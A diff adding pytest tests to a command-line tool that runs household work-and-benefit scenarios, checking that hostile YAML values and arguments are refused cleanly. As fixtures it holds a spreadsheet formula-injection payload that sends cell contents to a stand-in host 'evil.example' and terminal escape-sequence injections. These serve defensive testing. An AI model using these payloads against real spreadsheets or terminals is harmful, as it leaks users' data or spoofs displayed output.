@@ -304,3 +304,80 @@ def test_messages_say_the_problem(tmp_path):
     assert "number" in line and "twenty" in line
     line = assert_refused(cli("run", write(tmp_path, BAD["out-of-range reform value"][0])), "reform.offset.rate")
     assert "1.5" in line
+
+
+# --------------------------------------------------------------------------------------------------
+# hostile files and arguments (issue 8): refused in one short line naming the field, never a traceback
+
+HOSTILE = {
+    "a boolean for a number": (changed(_set("household.children", True)), "household.children"),
+    "a yes/no phase": ("PHASE_YES", "household.phase"),
+    "hours in YAML 1.1 base 60": ("HOURS_1_30", HOURS),
+    "hours next to nothing": (changed(_set(HOURS, 5e-324)), HOURS),
+    "an impossible date": (changed(_set("date", "2014-02-30")), "date"),
+    "a 5,000-digit number": ("CHILDREN_5000_DIGITS", "household.children"),
+    "a 400-digit reform value": (changed(_set("reform", {"allowance.child.max_full": 10**400})),
+                                 "reform.allowance.child.max_full"),
+}
+
+
+def hostile_text(content) -> str:
+    good = yaml.safe_dump(GOOD, sort_keys=False)
+    return {
+        "PHASE_YES": good.replace("phase: 2", "phase: yes"),
+        "HOURS_1_30": good.replace("hours_per_week: 20", "hours_per_week: 1:30"),
+        "CHILDREN_5000_DIGITS": good.replace("children: 0", "children: " + "9" * 5000),
+    }.get(content, content) if isinstance(content, str) else content
+
+
+@pytest.mark.parametrize("case", sorted(HOSTILE))
+def test_hostile_values_are_refused_with_their_field(tmp_path, case):
+    content, field = HOSTILE[case]
+    line = assert_refused(cli("run", write(tmp_path, hostile_text(content)), "--json"), field)
+    assert len(line) < 300 and "Exceeds the limit" not in line
+
+
+def test_the_date_message_names_the_day(tmp_path):
+    line = assert_refused(cli("run", write(tmp_path, HOSTILE["an impossible date"][0])), "date")
+    assert line == "date: 2014-02-30 is not a real date"
+
+
+def test_a_5_mb_bad_value_gives_a_short_line(tmp_path):
+    scenario = changed(_set("household.housing", "castle" * 800_000))
+    line = assert_refused(cli("run", write(tmp_path, scenario)), ("household.housing", str(tmp_path / "scenario.yaml")))
+    assert len(line) < 300
+
+
+def test_a_bad_reform_file_is_refused_by_its_field(tmp_path, good):
+    reform = write(tmp_path, {"title": "Bad", "reform": {"offset.rate": "=1+1"}}, "reform.yaml")
+    line = assert_refused(cli("run", good, "--json", "--reform", reform), "reform.offset.rate")
+    assert "=1+1" in line
+
+
+def test_sweep_csv_cells_never_run_as_formulas(tmp_path):
+    scenario = copy.deepcopy(GOOD)
+    scenario["options"][0]["name"] = '=HYPERLINK("http://evil.example/"&A1,"Details")'
+    scenario["options"][1]["name"] = "-2+3"
+    proc = cli("sweep", write(tmp_path, scenario), "--csv", "--points", "11")
+    assert proc.returncode == 0, proc.stderr
+    rows = list(csv.DictReader(io.StringIO(proc.stdout)))
+    assert {r["option"] for r in rows} == {"'" + scenario["options"][0]["name"], "'-2+3"}
+    # negative amounts are numbers, left as they are: the commuter card makes the gain negative at 0 hours
+    assert any(r["gain_vs_no_work"].startswith("-") and float(r["gain_vs_no_work"]) < 0 for r in rows)
+    assert all(not cell.startswith(("=", "+", "@")) for r in rows for cell in r.values())
+
+
+def test_the_table_shows_names_without_control_characters(tmp_path):
+    scenario = copy.deepcopy(GOOD)
+    scenario["title"] = "Title\x1b[2J\rhidden"
+    scenario["options"][0]["name"] = "Kitchen\x1b]8;;http://evil.example\x07job"
+    proc = cli("run", write(tmp_path, scenario))
+    assert proc.returncode == 0, proc.stderr
+    assert "\x1b" not in proc.stdout and "\r" not in proc.stdout and "\x07" not in proc.stdout
+    assert "Kitchen?]8;;http://evil.example?job" in proc.stdout
+
+
+@pytest.mark.parametrize("points", ["1000000000", "0", "x"])
+def test_sweep_points_out_of_range_are_refused(good, points):
+    line = assert_refused(cli("sweep", good, "--csv", "--points", points), "--points")
+    assert "2 to 10,001" in line
